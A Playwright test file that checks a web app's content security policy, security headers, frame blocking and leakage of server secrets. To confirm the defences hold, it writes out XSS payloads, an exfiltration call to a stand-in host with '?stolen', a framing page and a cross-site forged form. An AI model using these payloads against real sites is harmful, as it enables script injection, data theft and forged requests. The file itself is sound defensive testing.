import { createServer } from 'node:http'
import { expect, type Page, type Response } from '@playwright/test'
import { z } from 'zod'
import { newId } from '#server/contracts/ids.ts'
import { listen } from '#server/http/listen.ts'
import { authorisation } from '#tests/support/authorisation/authorisation-table.ts'
import { pageAddress, pageFiles } from '#tests/support/authorisation/page-addresses.ts'
import { startConversation } from './support/conversation.ts'
import { findLeaks, readBundle } from './support/leaks.ts'
import { readRun } from './support/run-file.ts'
import { accounts, signInAs } from './support/sign-in.ts'
import { test } from './support/test.ts'

/** Every page of the site: where a stranger sees it, as a stranger, else as an admin. */
const visits = pageFiles.map(({ route }) => ({
  address: pageAddress(route, newId()),
  isPublic: authorisation[`page ${route}`]?.stranger === 'yes',
}))
const addressesOf = (isPublic: boolean) =>
  visits.filter((visit) => visit.isPublic === isPublic).map(({ address }) => address)
const publicPages = [...addressesOf(true), '/en', '/entrar/erro?error=Verification', '/nao-existe']
const staffPages = addressesOf(false)
const queueBoard = '/api/console/queues'

/** The fixture fails a test at any error in the console, and a browser tells a refused script or style there. */
test.use({ expectedErrors: [/status of (401|403|404|500)/] })

test.describe('every page', () => {
  test('is among those that are looked at', () => {
    expect(publicPages).toEqual(
      expect.arrayContaining(['/', '/conversa', '/entrar/confirmar', '/privacidade', '/widget']),
    )
    expect(staffPages).toEqual(expect.arrayContaining(['/conta', '/console/audit', '/console/staff']))
    expect(publicPages.length + staffPages.length).toBe(pageFiles.length + 3)
  })

  test('runs by nonces: its policy, its scripts, its styles, its markup', async ({ newPerson }) => {
    const page = await newPerson()
    for (const path of publicPages) await expectStrict(page, path)
  })

  test('of the staff does, too, with the board of the queues', async ({ newPerson }) => {
    const page = await newPerson()
    await signInAs(page, accounts.admin)
    for (const path of staffPages) await expectStrict(page, path)
    const board = await page.goto(queueBoard)
    expectPolicy(board)
    await expect(page.getByText('emails').first()).toBeVisible()
    await expectCleanMarkup(page)
  })

  test('has a nonce that nobody had before', async ({ newPerson }) => {
    const page = await newPerson()
    const nonces = new Set<string>()
    for (const path of ['/', '/', '/nao-existe', '/nao-existe']) nonces.add(nonceOf(await page.goto(path)))
    expect(nonces.size).toBe(4)
  })

  test('keeps its policy when it is left for another without loading anew', async ({ newPerson }) => {
    const page = await newPerson()
    await page.goto('/')
    await page.locator('#areas').getByRole('link').first().click()
    await page.waitForURL(/\/servicos\//)
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
    await page.getByRole('button', { name: 'Alternar entre tema claro e escuro' }).click()
    await expect(page.locator('html')).toHaveAttribute('data-mantine-color-scheme', 'dark')
  })
})

test.describe('what an attacker writes into a page', () => {
  test.use({ expectedErrors: [/Content Security Policy/] })

  test('does not run: scripts, handlers, addresses that are scripts, styles', async ({ newPerson }) => {
    const page = await newPerson()
    await page.goto('/')
    const seen = await page.evaluate(async () => {
      const violations: string[] = []
      const told = new Promise<void>((resolve) => {
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
          violations.push(effectiveDirective)
          if (violations.length === 4) resolve()
        })
      })
      const host = document.createElement('div')
      document.body.append(host)
      host.innerHTML = '<img src="data:," onerror="window.ranHandler = true"><style>body { --ran: 1 }</style>'
      const script = document.createElement('script')
      script.textContent = 'window.ranScript = true'
      const link = document.createElement('a')
      link.href = 'javascript:void (window.ranLink = true)'
      host.append(script, link)
      link.click()
      await told
      const ran = ['ranHandler', 'ranScript', 'ranLink'].filter((name) => name in window)
      return {
        ran,
        style: getComputedStyle(document.body).getPropertyValue('--ran'),
        violations: violations.toSorted(),
      }
    })
    expect(seen.ran).toEqual([])
    expect(seen.style).toBe('')
    expect(seen.violations).toEqual(['script-src-attr', 'script-src-elem', 'script-src-elem', 'style-src-elem'])
  })

  test('cannot send what it read to another host', async ({ newPerson }) => {
    const page = await newPerson()
    await page.goto('/')
    const answers = await page.evaluate(() =>
      Promise.all([
        fetch('http://127.0.0.2:9/').then(String, () => 'refused'),
        new Promise((resolve) => {
          const image = new Image()
          image.onerror = () => resolve('refused')
          image.onload = () => resolve('loaded')
          image.src = 'http://127.0.0.2:9/?stolen'
        }),
      ]),
    )
    expect(answers).toEqual(['refused', 'refused'])
  })
})

test.describe('another site', () => {
  test.use({
    expectedErrors: [
      /frame-ancestors|X-Frame-Options|Refused to (display|frame)|ERR_BLOCKED|violates|status of 40[34]/,
    ],
  })

  test('cannot show a page of ours in a frame', async ({ newPerson }) => {
    const page = await newPerson()
    const { siteUrl } = readRun()
    await using other = await serveHtml(
      ['/', '/entrar', '/api/openapi.json', '/nao-existe']
        .map((path) => `<iframe src="${siteUrl}${path}"></iframe>`)
        .join(''),
    )
    await page.goto(other.url)
    await expect.poll(() => page.frames().length).toBe(5)
    await page.waitForLoadState('networkidle')
    for (const frame of page.frames().slice(1)) expect(frame.url()).toMatch(/^chrome-error:|^about:blank$/)
  })

  test('cannot change anything by a form, though the person is signed in', async ({ newPerson }) => {
    const page = await newPerson()
    await page.goto('/')
    await signInAs(page, accounts.attendant)
    const { siteUrl } = readRun()
    await using other = await serveHtml(
      `<form method="post" enctype="text/plain" action="${siteUrl}/api/auth/sign-out"><input name='{"json":null,"x":"' value='"}'></form>
       <script>document.forms[0].submit()</script>`,
    )
    const [answer] = await Promise.all([
      page.waitForResponse((response) => response.url().endsWith('/api/auth/sign-out')),
      page.goto(other.url, { waitUntil: 'commit' }),
    ])
    expect(answer.status()).toBe(403)
    await page.waitForURL(answer.url())
    await page.goto('/painel')
    await expect(page.getByRole('button', { name: /^Sua conta/ })).toBeVisible()
  })
})

test('what is no page may show and load nothing at all', async ({ newPerson }) => {
  const page = await newPerson()
  await page.goto('/')
  const data = await page.locator('#__NEXT_DATA__').textContent()
  const { buildId } = z.object({ buildId: z.string() }).parse(JSON.parse(data ?? ''))
  const file = await page.locator('script[src^="/_next/static/"]').first().getAttribute('src')
  const ofNext = [`/_next/data/${buildId}/pt-BR/entrar.json`, file ?? '', '/_next/static/none.js']
  for (const path of ['/api/config', '/api/products', '/icon.svg', '/api/trpc/viewer.me', ...ofNext]) {
    const headers = (await page.request.get(path)).headers()
    expect(headers['content-security-policy'], path).toMatch(/^default-src 'none'; frame-ancestors 'none'/)
    expect(headers, path).toMatchObject({
      'x-content-type-options': 'nosniff',
      'x-frame-options': 'DENY',
      'referrer-policy': 'strict-origin-when-cross-origin',
      'cross-origin-opener-policy': 'same-origin',
      'cross-origin-resource-policy': 'same-origin',
    })
    expect(headers).not.toHaveProperty('x-powered-by')
  }
  expect((await page.request.get('/_next/image?url=%2Ficon.svg&w=64&q=75')).status()).toBe(404)
  const gateway = await page.request.get(`${readRun().gatewayUrl}/healthz`)
  expect(gateway.headers()).toMatchObject({ 'x-content-type-options': 'nosniff', 'x-frame-options': 'DENY' })
})

test('who came by https is told to come by https', async ({ newPerson }) => {
  const page = await newPerson()
  for (const path of ['/api/config', '/_next/static/none.js']) {
    const byHttps = await page.request.get(path, { headers: { 'x-forwarded-proto': 'https' } })
    expect(byHttps.headers()['strict-transport-security'], path).toBe('max-age=31536000')
  }
  expect((await page.request.get('/api/config')).headers()).not.toHaveProperty('strict-transport-security')
})

test.describe('no secret of the servers', () => {
  test('escapes the search itself', () => {
    const { environment } = readRun()
    expect(findLeaks(`x${environment.AUTH_SECRET}y`, { words: false })).toHaveLength(1)
    expect(findLeaks(btoa(environment.SUPABASE_SERVICE_ROLE_KEY ?? ''), { words: false })).toHaveLength(1)
    expect(findLeaks('createClient(process.env.DATABASE_URL)', { words: true })).toEqual([
      'DATABASE_URL',
      'process.env.',
    ])
  })

  test('is in anything that browsers may load, nor any word that only servers use', () => {
    const files = readBundle()
    expect(files.filter(({ file }) => file.endsWith('.js')).length).toBeGreaterThan(10)
    expect(files.filter(({ file }) => file.endsWith('.map'))).toEqual([])
    const leaks = files.flatMap(({ file, text }) => findLeaks(text, { words: true }).map((leak) => `${file}: ${leak}`))
    expect(leaks).toEqual([])
  })

  test('is in an answer that a browser gets, whoever asks', async ({ newPerson }) => {
    const visitor = await newPerson()
    const leaks = watchAnswers(visitor)
    for (const path of publicPages) await visitor.goto(path)
    await startConversation(visitor, { name: 'Rita Segredo', body: 'Bom dia' })
    const admin = await newPerson()
    const adminLeaks = watchAnswers(admin)
    await admin.goto('/')
    await signInAs(admin, accounts.admin)
    for (const path of staffPages) await admin.goto(path, { waitUntil: 'networkidle' })
    for (const path of ['/api/health', '/api/health/redis', '/api/openapi.json']) await admin.goto(path)
    expect(await leaks()).toEqual([])
    expect(await adminLeaks()).toEqual([])
  })
})

async function expectStrict(page: Page, path: string): Promise<void> {
  const response = await page.goto(path)
  if (path === '/widget') expectPolicy(response, readRun().environment.WIDGET_ORIGINS?.replaceAll(',', ' '))
  else expectPolicy(response)
  const nonce = nonceOf(response)
  const html = (await response?.text()) ?? ''
  const scripts = html.match(/<script\b[^>]*>/g) ?? []
  const styles = html.match(/<style\b[^>]*>/g) ?? []
  expect(scripts.length, path).toBeGreaterThan(2)
  for (const tag of [...scripts, ...styles]) expect(tag, path).toContain(`nonce="${nonce}"`)
  await expect(page.getByRole('main')).toBeVisible()
  await expectCleanMarkup(page)
}

/** @param frames whose pages may show it in a frame */
function expectPolicy(response: Response | null, frames = "'none'"): void {
  const headers = response?.headers() ?? {}
  const policy = headers['content-security-policy'] ?? ''
  const scripts = /(?:^|; )script-src ([^;]*)/.exec(policy)?.[1] ?? ''
  expect(scripts, response?.url()).toMatch(/^'self' 'nonce-[\w+/=]{24}'$/)
  expect(policy).not.toContain('unsafe-eval')
  expect(`${policy};`).toContain(`frame-ancestors ${frames};`)
  expect(policy).toContain("object-src 'none'")
  expect(headers['x-frame-options']).toBe(frames === "'none'" ? 'DENY' : undefined)
  expect(headers['x-content-type-options']).toBe('nosniff')
}

const nonceOf = (response: Response | null): string =>
  /'nonce-([^']+)'/.exec(response?.headers()['content-security-policy'] ?? '')?.[1] ?? 'none'

/** No handler and no address that is a script, as the page stands once it runs. */
async function expectCleanMarkup(page: Page): Promise<void> {
  const found = await page.evaluate(() =>
    [...document.querySelectorAll('*')].flatMap((element) =>
      [...element.attributes]
        .filter(({ name, value }) => name.startsWith('on') || /^\s*javascript:/i.test(value) || name === 'srcdoc')
        .map(({ name }) => `<${element.localName} ${name}>`),
    ),
  )
  expect(found, page.url()).toEqual([])
}

/** Reads every answer that the page's browser gets, from now on. */
function watchAnswers(page: Page): () => Promise<string[]> {
  const readings: Promise<string[]>[] = []
  page.on('response', (response) => {
    const headers = JSON.stringify(response.headers())
    const isText = /json|html|javascript|text/.test(response.headers()['content-type'] ?? '')
    const isStream = response.url().includes('/api/chat/stream')
    const body = isText && !isStream ? response.text().catch(() => '') : Promise.resolve('')
    readings.push(
      body.then((text) => findLeaks(headers + text, { words: false }).map((leak) => `${response.url()}: ${leak}`)),
    )
  })
  return async () => (await Promise.all(readings)).flat()
}

/** A page of another site: 127.0.0.1 is none of localhost's. */
async function serveHtml(html: string) {
  const server = createServer((_request, response) => {
    response.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' }).end(`<!doctype html>${html}`)
  })
  const port = await listen(server, { port: 0, variable: 'none' })
  return {
    url: `http://127.0.0.1:${port}/`,
    [Symbol.asyncDispose]: async () => {
      server.closeAllConnections()
      await new Promise((resolve) => server.close(resolve))
    },
  }
}
